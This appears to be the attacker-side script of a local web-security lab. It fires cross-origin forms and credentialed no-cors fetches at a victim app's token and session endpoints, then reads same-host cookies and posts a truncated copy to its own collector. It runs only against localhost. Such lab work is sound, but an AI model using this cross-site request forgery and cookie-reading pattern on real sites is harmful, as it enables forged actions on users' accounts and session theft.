// The script of another origin's page. It makes the browser send, which brings the cookies; and it reads what cookies it
// can: those of its host, whatever the port (RFC 6265 s. 8.5).

const KINDS = ['victim-session', 'victim-cookie', 'jwt', 'token', 'token-header', 'token-query', 'dpop']

/** Every name that this device has for itself: nobody else is attacked from here. */
const LOCAL = /^http:\/\/(?:(?:[\w-]+\.)*localhost|127(?:\.\d+){3}):\d+$/

const query = new URLSearchParams(location.search)
const victim = query.get('at')
const addressOf = (kind, by) => `${victim}/api/${kind}/echo?visit=${query.get('visit')}&by=${by}`

/** A form needs nobody's leave to be sent to another origin; here it is sent into a frame, so that this page stays. */
function sendForm(kind) {
  const frame = Object.assign(document.createElement('iframe'), { name: kind, title: kind })
  const form = Object.assign(document.createElement('form'), { method: 'post', target: kind, hidden: true })
  form.action = addressOf(kind, 'form')
  document.body.append(frame, form)
  form.submit()
}

/** The answer can't be read, and need not be. */
function sendFetch(kind) {
  return fetch(addressOf(kind, 'fetch'), { method: 'POST', mode: 'no-cors', credentials: 'include' })
}

/** What of the Lab's it reads, shortened: this host's other cookies are nobody's business. */
function readCookies() {
  const pairs = document.cookie.split('; ').filter((pair) => /^(victim_|XSRF-TOKEN=)/.test(pair))
  return pairs.map((pair) => pair.replace(/=(.{10}).*(.{6})$/, '=$1...$2')).join('; ')
}

/** To its own server, where the Lab looks it up. */
function tell(read) {
  const headers = { 'X-Read': read }
  return fetch(`/collect?visit=${query.get('visit')}&by=bait`, { method: 'POST', headers })
}

if (LOCAL.test(victim)) {
  const read = readCookies()
  if (read) document.querySelector('#read').textContent = read
  for (const kind of KINDS) sendForm(kind)
  await Promise.allSettled([...KINDS.map(sendFetch), tell(read)])
  document.querySelector('#sent').hidden = false
}
